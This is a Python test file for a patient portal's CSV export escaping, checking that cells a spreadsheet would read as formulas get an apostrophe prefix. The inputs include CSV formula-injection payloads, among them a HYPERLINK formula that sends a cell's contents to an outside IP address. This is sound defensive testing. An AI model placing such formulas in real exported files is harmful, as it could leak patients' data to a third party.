"""What patients typed is shown by a spreadsheet, never carried out."""

import csv
from io import StringIO

import pytest

from portal.lib.csv_safe import BOM, escape_formula, lines
from tests.work import counted


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("http://x")', "+39 06 1234", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1+1", "＝1+1", "-"]
)
def test_what_would_be_a_formula_gets_an_apostrophe(typed):
    assert escape_formula(typed) == f"'{typed}"


@pytest.mark.parametrize(
    "blank",
    [
        "\u00a0",
        "\ufeff",
        "\u200b",
        "\u2003",
        "\u202e",
        "\u2060",
        "\u3164",
        "\x00",
        "\x0b",
        '"',
        "\u2800" * 90,
        "\U000e0020",
    ],
)
@pytest.mark.parametrize("sign", "=+-@＝＠")
def test_what_nobody_sees_before_it_hides_no_formula(blank, sign):
    assert escape_formula(f"{blank}{sign}1") == f"'{blank}{sign}1"
    assert escape_formula(f"Olena;{blank}{sign}1") == f"Olena;{blank}'{sign}1"


@pytest.mark.parametrize("split", [";", "; ", "|", "\t", "\n", "\r\n", ';"', ";;;", "; \ufeff"])
def test_a_cell_that_is_split_again_holds_no_formula(split):
    """Opened with semicolons between its columns, a file of ours falls apart in other places."""
    typed = f'Olena{split}=HYPERLINK("http://198.51.100.9/?x="&A1,"open")'
    escaped = escape_formula(typed)
    assert escaped == typed.replace(f"{split}=", f"{split}'=", 1)
    for separator in ";|\t":
        for row in csv.reader(StringIO("".join(list(lines([[typed, typed]]))[1:])), delimiter=separator):
            assert not any(cell.strip('"').lstrip().startswith(("=", "+", "-", "@")) for cell in row)


def test_a_long_run_of_blanks_is_looked_at_once(monkeypatch):
    with counted(monkeypatch) as work:
        assert escape_formula("a" + ";\t" * 500_000) == "a" + ";\t" * 500_000
    assert work.calls < 100


@pytest.mark.parametrize("typed", ["Olena", "O'Brien", "a=b", "1-2", "5 kg, -2 kg", "a - b; c", "", "'x", 7, None])
def test_everything_else_stays_as_it_is(typed):
    assert escape_formula(typed) == typed


def test_a_table_comes_out_line_by_line_and_reads_back_as_it_was():
    rows = [["Name", "Reason"], ["Olena, Example", 'says "no"\nand goes'], ["=1", 1957]]
    told = list(lines(rows))
    assert told[0] == BOM and len(told) == 4
    read = list(csv.reader(StringIO("".join(told[1:]), newline="")))
    assert read == [["Name", "Reason"], ["Olena, Example", 'says "no"\nand goes'], ["'=1", "1957"]]
